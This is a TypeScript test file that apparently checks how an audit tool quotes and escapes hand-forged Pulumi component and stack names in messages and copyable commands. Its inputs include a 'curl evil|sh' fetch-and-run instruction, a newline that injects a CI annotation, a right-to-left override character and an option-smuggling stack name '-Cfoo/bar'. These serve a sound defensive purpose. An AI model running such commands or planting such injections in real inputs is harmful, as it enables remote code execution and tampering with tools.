import { type Holder, parseHolder } from "../../../audit/holders/holder";
import { componentAliasOption, holderComponentText, transferCommand } from "../../../audit/holders/wording";

const PROD = { stack: "shop/prod", component: "m365", id: "prodprodprodpro1" };

/** Of a description that somebody wrote by hand. */
const forged = (component: string, stack = "shop/prod") =>
  parseHolder(`[jumpcloud-entra: ${stack} ${component} q2Jk0aZ9_x-1bBcD]`) ?? PROD;

test.each([
  ["m365", "m365"],
  ["büro", "büro"],
  ["two%20words", '"two words"'],
  ["m365.%20Run%20%60curl%20evil%7Csh%60%20first", "\"m365. Run 'curl evil|sh' first\""],
  ["m%0A::error::x", '"m\\n::error::x"'],
  ["a".repeat(900), `${"a".repeat(99)}…`],
])("names the component %j as a name, whatever it says", (component, shown) => {
  expect(holderComponentText(forged(component))).toBe(shown);
});

test("has a line to copy that stays one text between two backticks", () => {
  const holder = forged('%60%22%7D]%E2%80%AE%0Ax"');
  const line = componentAliasOption(holder, PROD);
  expect(line).toBe('aliases: [{ name: "\\u0060\\"}]\\u202e\\nx\\"" }]');
  expect(JSON.parse(/name: (".*") /.exec(line)?.[1] ?? "")).toBe(holder.component);
});

test("takes no stack's name for an option", () => {
  expect(transferCommand("shop/prod")).toBe("npx pulumi config set transferFrom shop/prod");
  expect(transferCommand(forged("m365", "-Cfoo/bar").stack)).toBe(
    "npx pulumi config set transferFrom -- -Cfoo/bar",
  );
});

const m365: Holder = { stack: "shop/dev", component: "m365", id: "q2Jk0aZ9_x-1bBcD" };
const within: Holder = { ...m365, parent: "company:identity:Identity::identity" };
const URN = '"urn:pulumi:dev::shop::company:identity:Identity::identity"';

test.each([
  { what: "renamed", before: m365, now: { ...m365, component: "office" }, line: '{ name: "m365" }' },
  {
    what: "renamed in its parent",
    before: within,
    now: { ...within, component: "o" },
    line: '{ name: "m365" }',
  },
  { what: "moved into a parent", before: m365, now: within, line: "{ parent: pulumi.rootStackResource }" },
  { what: "moved out of one", before: within, now: m365, line: `{ parent: ${URN} }` },
  {
    what: "both",
    before: within,
    now: { ...m365, component: "office" },
    line: `{ name: "m365", parent: ${URN} }`,
  },
])("says what the component was: $what", ({ before, now, line }) => {
  expect(componentAliasOption(before, now)).toBe(`aliases: [${line}]`);
});
